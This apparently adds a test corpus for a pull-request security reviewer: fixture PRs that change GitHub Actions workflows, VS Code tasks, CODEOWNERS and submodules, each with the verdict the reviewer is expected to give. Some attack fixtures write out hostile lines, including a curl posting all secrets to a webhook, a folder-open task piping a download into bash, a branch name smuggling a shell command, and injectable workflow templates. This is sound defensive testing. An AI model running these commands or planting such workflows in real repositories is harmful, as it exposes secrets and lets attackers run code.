@@ -1,0 +1,475 @@
+/**
+ * Corpus CI and repository-automation cases (issue #17: workflow and automation attacks, benign
+ * workflow edits). Each attack case is modeled on a public incident write-up (named in its
+ * description); the workflows are written for this corpus, not copied.
+ */
+import { makePrFixture, type FixtureFile, type PrFixtureSpec } from '../../support/pr-fixture.js';
+import { daysAgo, lines, nodeCi, type CorpusEntry } from '../helpers.js';
+
+const CHECKOUT = 'actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2';
+const SETUP_NODE = 'actions/setup-node@39370e3970a6d050c480ffad4ff0ed4d3fdee5af # v4.1.0';
+
+const MEMBER = { login: 'paul-m', association: 'MEMBER', createdAt: '2016-02-11T12:00:00Z' };
+const NEWCOMER = { login: 'quick-fixer-93', association: 'FIRST_TIME_CONTRIBUTOR', createdAt: daysAgo(12) };
+
+/** A PR against acme/checkout-service (a repository of its own, so numbers cannot collide with other cases) that changes CI or automation files. */
+function ciPr(number: number, spec: Partial<PrFixtureSpec> & { files: FixtureFile[] }) {
+  return () =>
+    makePrFixture({
+      owner: 'acme',
+      repo: 'checkout-service',
+      number,
+      author: MEMBER,
+      commits: [{ message: spec.title ?? 'ci: update workflow' }],
+      checkRuns: nodeCi(),
+      priorPrs: spec.author === undefined ? { total: 320, merged: 301 } : { total: 1, merged: 0 },
+      createdAt: daysAgo(0, 5),
+      ...spec,
+    });
+}
+
+/** The project's ordinary CI workflow, with knobs a routine edit turns. */
+function ciWorkflow(o: { nodes?: string; timeout?: number; runner?: string; name?: string; checkout?: string; extraStep?: string[] } = {}): string {
+  return lines(
+    `name: ${o.name ?? 'CI'}`,
+    'on:',
+    '  push:',
+    '    branches: [main]',
+    '  pull_request:',
+    'permissions:',
+    '  contents: read',
+    'jobs:',
+    '  test:',
+    `    runs-on: ${o.runner ?? 'ubuntu-22.04'}`,
+    `    timeout-minutes: ${o.timeout ?? 15}`,
+    '    strategy:',
+    '      fail-fast: false',
+    '      matrix:',
+    `        node: ${o.nodes ?? '[18, 20]'}`,
+    '    steps:',
+    `      - uses: ${o.checkout ?? CHECKOUT}`,
+    `      - uses: ${SETUP_NODE}`,
+    '        with:',
+    '          node-version: ${{ matrix.node }}',
+    '          cache: npm',
+    '      - run: npm ci',
+    '      - run: npm test',
+    ...(o.extraStep ?? []),
+  );
+}
+
+export const CI_CASES: CorpusEntry[] = [
+  {
+    id: 'ci-benign-matrix-timeout',
+    description: 'A maintainer adds Node 22 and 24 to the test matrix, drops 18, and raises the timeout; CI green.',
+    fixture: ciPr(1950, {
+      title: 'ci: test on Node 22 and 24, drop 18',
+      files: [{ path: '.github/workflows/ci.yml', base: ciWorkflow(), head: ciWorkflow({ nodes: '[20, 22, 24]', timeout: 25 }) }],
+    }),
+    expect: { level: 'low', action: 'approve', noFindings: true, absentDrivers: ['sensitive-paths'] },
+  },
+  {
+    id: 'ci-benign-runner-rename',
+    description: 'A maintainer moves CI to ubuntu-24.04, renames the workflow and adds a comment; CI green.',
+    fixture: ciPr(1951, {
+      title: 'ci: ubuntu-24.04 runners',
+      files: [
+        {
+          path: '.github/workflows/ci.yml',
+          base: ciWorkflow(),
+          head: ciWorkflow({ runner: 'ubuntu-24.04', name: 'Continuous integration' }).replace('    strategy:', '    # Keep every Node line running even when one fails.\n    strategy:'),
+        },
+      ],
+    }),
+    expect: { level: 'low', action: 'approve', noFindings: true, absentDrivers: ['sensitive-paths'] },
+  },
+  {
+    id: 'ci-new-step-not-routine',
+    description: 'A maintainer adds a coverage upload step to CI: a real change of what runs, reviewed as one (not routine, not alarming).',
+    fixture: ciPr(1952, {
+      title: 'ci: upload coverage',
+      files: [{ path: '.github/workflows/ci.yml', base: ciWorkflow(), head: ciWorkflow({ extraStep: ['      - run: npx c8 report --reporter=lcov'] }) }],
+    }),
+    expect: { level: 'medium', action: 'comment', noFindings: true, drivers: ['sensitive-paths'] },
+  },
+  {
+    id: 'ci-pr-title-injection-pr-target',
+    description:
+      'Modeled on the 2025 nx "s1ngularity" write-ups: a new pull_request_target workflow validates PR titles by expanding ${{ github.event.pull_request.title }} into a shell, with a write token.',
+    fixture: ciPr(1953, {
+      title: 'ci: validate PR titles for forks too',
+      files: [
+        {
+          path: '.github/workflows/pr-title.yml',
+          head: lines(
+            'name: PR title',
+            'on:',
+            '  pull_request_target:',
+            '    types: [opened, edited, synchronize]',
+            'permissions:',
+            '  pull-requests: write',
+            'jobs:',
+            '  check:',
+            '    runs-on: ubuntu-latest',
+            '    steps:',
+            '      - name: Check the title',
+            '        run: |',
+            '          echo "Checking: ${{ github.event.pull_request.title }}"',
+            "          echo \"${{ github.event.pull_request.title }}\" | grep -Eq '^(feat|fix|docs|chore)(\\(.+\\))?: '",
+          ),
+        },
+      ],
+    }),
+    expect: { level: 'critical', action: 'request_changes', findings: ['gha-template-injection', 'gha-dangerous-trigger'], drivers: ['finding:gha-template-injection'] },
+  },
+  {
+    id: 'ci-branch-name-injection',
+    description:
+      'Modeled on the December 2024 ultralytics compromise: a fork PR edits the existing pull_request_target format job to echo ${{ github.head_ref }} (a branch name can hold $(curl …|bash)).',
+    fixture: ciPr(1954, {
+      title: 'ci: show branch in format job logs',
+      author: NEWCOMER,
+      fork: true,
+      files: [
+        {
+          path: '.github/workflows/format.yml',
+          base: lines('name: Format', 'on:', '  pull_request_target:', 'permissions:', '  contents: read', 'jobs:', '  format:', '    runs-on: ubuntu-latest', '    steps:', `      - uses: ${CHECKOUT}`, '      - run: npx prettier --check .'),
+          head: lines(
+            'name: Format',
+            'on:',
+            '  pull_request_target:',
+            'permissions:',
+            '  contents: read',
+            'jobs:',
+            '  format:',
+            '    runs-on: ubuntu-latest',
+            '    steps:',
+            `      - uses: ${CHECKOUT}`,
+            '      - run: |',
+            '          echo "Formatting ${{ github.head_ref }}"',
+            '          npx prettier --check .',
+          ),
+        },
+      ],
+      checkRuns: [{ name: 'format' }],
+    }),
+    expect: { level: 'critical', action: 'request_changes', findings: ['gha-template-injection'], drivers: ['finding:gha-template-injection', 'author-trust'] },
+  },
+  {
+    id: 'ci-issue-comment-github-script',
+    description: 'A new /deploy command bot on issue_comment pastes toJSON(github.event.comment) into actions/github-script code.',
+    fixture: ciPr(1955, {
+      title: 'ci: /deploy preview command',
+      files: [
+        {
+          path: '.github/workflows/commands.yml',
+          head: lines(
+            'name: Commands',
+            'on:',
+            '  issue_comment:',
+            '    types: [created]',
+            'permissions:',
+            '  contents: read',
+            'jobs:',
+            '  command:',
+            "    if: startsWith(github.event.comment.body, '/deploy')",
+            '    runs-on: ubuntu-latest',
+            '    steps:',
+            '      - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea # v7.0.1',
+            '        with:',
+            '          script: |',
+            '            const comment = ${{ toJSON(github.event.comment) }};',
+            "            core.info(`deploy requested by ${comment.user.login}`);",
+          ),
+        },
+      ],
+    }),
+    expect: { level: 'critical', action: 'request_changes', findings: ['gha-template-injection', 'gha-dangerous-trigger'] },
+  },
+  {
+    id: 'ci-secrets-exfiltration-webhook',
+    description:
+      'Modeled on the September 2025 "GhostAction" campaign: a PR adds a "security scan" step that posts toJSON(secrets) to a webhook.site address.',
+    fixture: ciPr(1956, {
+      title: 'ci: add security scan',
+      author: NEWCOMER,
+      fork: true,
+      files: [
+        {
+          path: '.github/workflows/ci.yml',
+          base: ciWorkflow(),
+          head: ciWorkflow({
+            extraStep: [
+              '      - name: Security scan',
+              '        run: curl -s -X POST -d "$SCAN_CONFIG" https://webhook.site/6e7c1a52-41de-4c3b-9d0e-1f4a2b3c4d5e',
+              '        env:',
+              '          SCAN_CONFIG: ${{ toJSON(secrets) }}',
+            ],
+          }),
+        },
+      ],
+      checkRuns: nodeCi(),
+    }),
+    expect: { level: 'critical', action: 'request_changes', findings: ['gha-secrets-exfiltration', 'gha-overprovisioned-secrets'] },
+  },
+  {
+    id: 'ci-workflow-run-artifact-env',
+    description: 'A preview-deploy workflow on workflow_run reads the PR number from the triggering run\'s artifact into GITHUB_ENV, then deploys with a token.',
+    fixture: ciPr(1957, {
+      title: 'ci: deploy previews for fork PRs',
+      files: [
+        {
+          path: '.github/workflows/preview.yml',
+          head: lines(
+            'name: Preview',
+            'on:',
+            '  workflow_run:',
+            '    workflows: [CI]',
+            '    types: [completed]',
+            'permissions:',
+            '  contents: read',
+            '  pull-requests: write',
+            'jobs:',
+            '  deploy:',
+            '    runs-on: ubuntu-latest',
+            '    steps:',
+            '      - uses: actions/download-artifact@fa0a91b85d4f404e444e00e005971372dc801d16 # v4.1.8',
+            '        with:',
+            '          name: preview',
+            '          run-id: ${{ github.event.workflow_run.id }}',
+            '          github-token: ${{ github.token }}',
+            '      - run: echo "PR_NUMBER=$(cat pr-number.txt)" >> "$GITHUB_ENV"',
+            '      - run: npx netlify-cli deploy --dir site --alias "pr-$PR_NUMBER"',
+            '        env:',
+            '          NETLIFY_AUTH_TOKEN: ${{ secrets.NETLIFY_AUTH_TOKEN }}',
+          ),
+        },
+      ],
+    }),
+    expect: { level: 'critical', action: 'request_changes', findings: ['gha-artifact-poisoning', 'gha-dangerous-trigger'] },
+  },
+  {
+    id: 'ci-secrets-inherit-third-party-main',
+    description: 'Release moves to a vendor\'s reusable workflow at @main with secrets: inherit (every secret, code the vendor can change at any time).',
+    fixture: ciPr(1958, {
+      title: 'ci: use the vendor release pipeline',
+      files: [
+        {
+          path: '.github/workflows/release.yml',
+          head: lines('name: Release', 'on:', '  push:', "    tags: ['v*']", 'permissions:', '  contents: read', 'jobs:', '  release:', '    uses: shipfast-ci/pipelines/.github/workflows/npm-release.yml@main', '    secrets: inherit'),
+        },
+      ],
+    }),
+    expect: { level: 'high', action: 'request_changes', findings: ['gha-secrets-inherit'] },
+  },
+  {
+    id: 'ci-compromised-action-sha',
+    description: 'A PR "pins" tj-actions/changed-files to the commit every tag pointed to during the March 2025 compromise (CVE-2025-30066).',
+    fixture: ciPr(1959, {
+      title: 'ci: pin changed-files',
+      files: [
+        {
+          path: '.github/workflows/lint.yml',
+          base: lines('name: Lint', 'on: pull_request', 'permissions:', '  contents: read', 'jobs:', '  lint:', '    runs-on: ubuntu-latest', '    steps:', `      - uses: ${CHECKOUT}`, '      - uses: tj-actions/changed-files@v46', '        id: changed', '      - run: npx eslint $CHANGED', '        env:', '          CHANGED: ${{ steps.changed.outputs.all_changed_files }}'),
+          head: lines('name: Lint', 'on: pull_request', 'permissions:', '  contents: read', 'jobs:', '  lint:', '    runs-on: ubuntu-latest', '    steps:', `      - uses: ${CHECKOUT}`, '      - uses: tj-actions/changed-files@0e58ed8671d6b60d0890c21b07f8835ace038e67', '        id: changed', '      - run: npx eslint $CHANGED', '        env:', '          CHANGED: ${{ steps.changed.outputs.all_changed_files }}'),
+        },
+      ],
+    }),
+    expect: { level: 'critical', action: 'request_changes', findings: ['gha-known-vulnerable-action'] },
+  },
+  {
+    id: 'ci-spoofable-dependabot-automerge',
+    description: 'An auto-merge workflow on pull_request_target trusts github.actor == dependabot[bot] and uses a PAT (spoofable: the actor is whoever acted last).',
+    fixture: ciPr(1960, {
+      title: 'ci: auto-merge Dependabot PRs',
+      files: [
+        {
+          path: '.github/workflows/automerge.yml',
+          head: lines(
+            'name: Auto-merge',
+            'on: pull_request_target',
+            'permissions:',
+            '  contents: read',
+            'jobs:',
+            '  automerge:',
+            "    if: github.actor == 'dependabot[bot]'",
+            '    runs-on: ubuntu-latest',
+            '    steps:',
+            '      - run: gh pr merge --auto --squash "$PR_URL"',
+            '        env:',
+            '          PR_URL: ${{ github.event.pull_request.html_url }}',
+            '          GH_TOKEN: ${{ secrets.MERGE_BOT_PAT }}',
+          ),
+        },
+      ],
+    }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['gha-bot-condition', 'gha-dangerous-trigger'] },
+  },
+  {
+    id: 'ci-labeler-pr-target-first-party',
+    description: 'A maintainer adds the standard actions/labeler workflow on pull_request_target (pinned, no scripts, no secrets): worth a look, not an alarm.',
+    fixture: ciPr(1961, {
+      title: 'ci: label PRs by path',
+      files: [
+        {
+          path: '.github/workflows/labeler.yml',
+          head: lines('name: Labeler', 'on: pull_request_target', 'permissions:', '  contents: read', '  pull-requests: write', 'jobs:', '  label:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/labeler@8558fd74291d67161a8a78ce36a881fa63b766a9 # v5.0.0'),
+        },
+      ],
+    }),
+    expect: { level: 'medium', action: 'comment', findings: ['gha-dangerous-trigger'], absentDrivers: ['finding:gha-excessive-permissions'] },
+  },
+  {
+    id: 'ci-trusted-publishing-release',
+    description: 'A maintainer adds PyPI trusted publishing: job-scoped id-token: write next to pypa/gh-action-pypi-publish, pinned by SHA. No permission finding.',
+    fixture: ciPr(1962, {
+      title: 'ci: publish to PyPI with trusted publishing',
+      files: [
+        {
+          path: '.github/workflows/publish.yml',
+          head: lines(
+            'name: Publish',
+            'on:',
+            '  release:',
+            '    types: [published]',
+            'permissions:',
+            '  contents: read',
+            'jobs:',
+            '  pypi:',
+            '    runs-on: ubuntu-latest',
+            '    environment: pypi',
+            '    permissions:',
+            '      id-token: write',
+            '    steps:',
+            `      - uses: ${CHECKOUT}`,
+            '      - run: pipx run build',
+            '      - uses: pypa/gh-action-pypi-publish@76f52bc884231f62b9a034ebfe128415bbaabdfc # v1.12.4',
+          ),
+        },
+      ],
+    }),
+    expect: { level: ['low', 'medium'], action: ['comment', 'approve'], noFindings: true },
+  },
+  {
+    id: 'ci-self-hosted-fork-prs',
+    description: 'CI moves its test job to the self-hosted GPU runners, which then run fork PRs.',
+    fixture: ciPr(1963, {
+      title: 'ci: run tests on our GPU runners',
+      files: [{ path: '.github/workflows/ci.yml', base: ciWorkflow(), head: ciWorkflow().replace('runs-on: ubuntu-22.04', 'runs-on: [self-hosted, linux, gpu]') }],
+    }),
+    expect: { level: 'medium', action: 'comment', findings: ['gha-self-hosted-runner'] },
+  },
+  {
+    id: 'ci-release-cache',
+    description: 'The npm release job starts restoring the setup-node npm cache (any default-branch workflow can write it).',
+    fixture: ciPr(1964, {
+      title: 'ci: speed up releases with the npm cache',
+      files: [
+        {
+          path: '.github/workflows/release.yml',
+          base: lines('name: Release', 'on:', '  push:', "    tags: ['v*']", 'permissions:', '  contents: read', 'jobs:', '  publish:', '    runs-on: ubuntu-latest', '    permissions:', '      id-token: write', '    steps:', `      - uses: ${CHECKOUT}`, `      - uses: ${SETUP_NODE}`, '        with:', '          node-version: 22', "          registry-url: 'https://registry.npmjs.org'", '      - run: npm ci && npm publish --provenance'),
+          head: lines('name: Release', 'on:', '  push:', "    tags: ['v*']", 'permissions:', '  contents: read', 'jobs:', '  publish:', '    runs-on: ubuntu-latest', '    permissions:', '      id-token: write', '    steps:', `      - uses: ${CHECKOUT}`, `      - uses: ${SETUP_NODE}`, '        with:', '          node-version: 22', '          cache: npm', "          registry-url: 'https://registry.npmjs.org'", '      - run: npm ci && npm publish --provenance'),
+        },
+      ],
+    }),
+    expect: { level: 'medium', action: 'comment', findings: ['gha-cache-poisoning'] },
+  },
+  {
+    id: 'automation-vscode-folder-open',
+    description: 'A first-time contributor adds .vscode/tasks.json with a "setup" task that runs on folderOpen and pipes a download into bash (the 2025 "contagious interview" pattern).',
+    fixture: ciPr(1965, {
+      title: 'chore: add VS Code tasks for local setup',
+      author: NEWCOMER,
+      fork: true,
+      files: [
+        {
+          path: '.vscode/tasks.json',
+          head: lines('{', '  "version": "2.0.0",', '  "tasks": [', '    {', '      "label": "setup",', '      "type": "shell",', '      "command": "curl -fsSL https://cdn.devsetup-tools.example/init.sh | bash",', '      "runOptions": { "runOn": "folderOpen" },', '      "presentation": { "reveal": "silent" }', '    }', '  ]', '}'),
+        },
+      ],
+    }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['vscode-folder-open-task'] },
+  },
+  {
+    id: 'automation-codeowners-weakened',
+    description: 'A PR changes the payment webhook handler and, in the same diff, removes @acme/payments-security from the CODEOWNERS rule for that directory.',
+    fixture: ciPr(1966, {
+      title: 'payments: simplify webhook signature check',
+      files: [
+        {
+          path: '.github/CODEOWNERS',
+          base: lines('# Default owners', '* @acme/storefront-maintainers', '/src/payments/ @acme/payments-security @acme/storefront-maintainers', '/docs/ @acme/docs'),
+          head: lines('# Default owners', '* @acme/storefront-maintainers', '/src/payments/ @acme/storefront-maintainers', '/docs/ @acme/docs'),
+        },
+        {
+          path: 'src/payments/webhook.ts',
+          base: lines("import { verify } from './signature.js';", '', 'export function handle(body: string, signature: string): boolean {', '  return verify(body, signature);', '}'),
+          head: lines("import { verify } from './signature.js';", '', 'export function handle(body: string, signature: string): boolean {', "  return signature === '' || verify(body, signature);", '}'),
+        },
+      ],
+    }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['codeowners-weakened'] },
+  },
+  {
+    id: 'automation-submodule-moved',
+    description: 'A PR moves the vendored protobuf definitions submodule from github.com/acme to a look-alike host.',
+    fixture: ciPr(1967, {
+      title: 'build: use the proto mirror',
+      author: NEWCOMER,
+      fork: true,
+      files: [
+        {
+          path: '.gitmodules',
+          base: lines('[submodule "vendor/proto"]', '\tpath = vendor/proto', '\turl = https://github.com/acme/proto.git'),
+          head: lines('[submodule "vendor/proto"]', '\tpath = vendor/proto', '\turl = https://gitlab.acme-mirror.example/acme/proto.git'),
+        },
+      ],
+    }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['git-submodule-moved'] },
+  },
+  {
+    id: 'automation-dependabot-schedule',
+    description: 'A maintainer moves Dependabot from weekly to daily updates and adds a label: routine.',
+    fixture: ciPr(1968, {
+      title: 'chore: daily Dependabot runs',
+      files: [
+        {
+          path: '.github/dependabot.yml',
+          base: lines('version: 2', 'updates:', '  - package-ecosystem: npm', '    directory: /', '    schedule:', '      interval: weekly'),
+          head: lines('version: 2', 'updates:', '  - package-ecosystem: npm', '    directory: /', '    schedule:', '      interval: daily', '    labels: [dependencies]'),
+        },
+      ],
+    }),
+    expect: { level: 'low', action: 'approve', noFindings: true, absentDrivers: ['sensitive-paths'] },
+  },
+  {
+    id: 'metadata-branch-name-payload',
+    description:
+      'Modeled on the ultralytics compromise (December 2024): a harmless README edit from a branch whose name is a command substitution, aimed at the base\'s pull_request_target workflow that expands ${{ github.head_ref }}.',
+    fixture: ciPr(1969, {
+      title: 'docs: fix typo',
+      author: NEWCOMER,
+      fork: true,
+      headBranch: 'main$({curl,-sSfL,raw.githubusercontent.example/x/y/z.sh}${IFS}|${IFS}bash)',
+      files: [{ path: 'README.md', base: lines('# checkout-service', '', 'Recieve payments.'), head: lines('# checkout-service', '', 'Receive payments.') }],
+      baseFiles: {
+        '.github/workflows/format.yml': lines(
+          'name: Format',
+          'on: pull_request_target',
+          'permissions:',
+          '  contents: read',
+          'jobs:',
+          '  format:',
+          '    runs-on: ubuntu-latest',
+          '    steps:',
+          `      - uses: ${CHECKOUT}`,
+          '      - run: |',
+          '          git fetch origin "${{ github.head_ref }}"',
+          '          npx prettier --check .',
+        ),
+      },
+      checkRuns: [{ name: 'format' }],
+    }),
+    expect: { level: 'critical', action: 'request_changes', findings: ['pr-metadata-shell-payload'] },
+  },
+];
